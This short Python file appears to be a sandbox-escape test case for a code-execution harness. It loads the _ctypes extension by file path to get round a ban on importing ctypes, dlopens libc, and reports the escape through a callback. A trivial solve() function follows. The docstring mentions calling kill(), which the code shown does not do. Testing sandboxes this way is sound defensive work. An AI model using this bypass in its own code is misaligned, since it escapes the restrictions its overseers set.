"""Load the _ctypes extension by file path (no ``import ctypes``), then dlopen libc and call kill()."""
# tags: escape
import glob, importlib.machinery, importlib.util, sys
for path in glob.glob(sys.base_prefix + "/lib/python3*/lib-dynload/_ctypes*.so") + \
        glob.glob("/usr/lib/python3*/lib-dynload/_ctypes*.so"):
    try:
        loader = importlib.machinery.ExtensionFileLoader("_ctypes", path)
        spec = importlib.util.spec_from_file_location("_ctypes", path, loader=loader)
        mod = importlib.util.module_from_spec(spec)
        handle = mod.dlopen("libc.so.6", 2)
        escaped("loaded _ctypes by path and dlopened libc")
        break
    except Exception:
        pass
def solve(x):
    return x
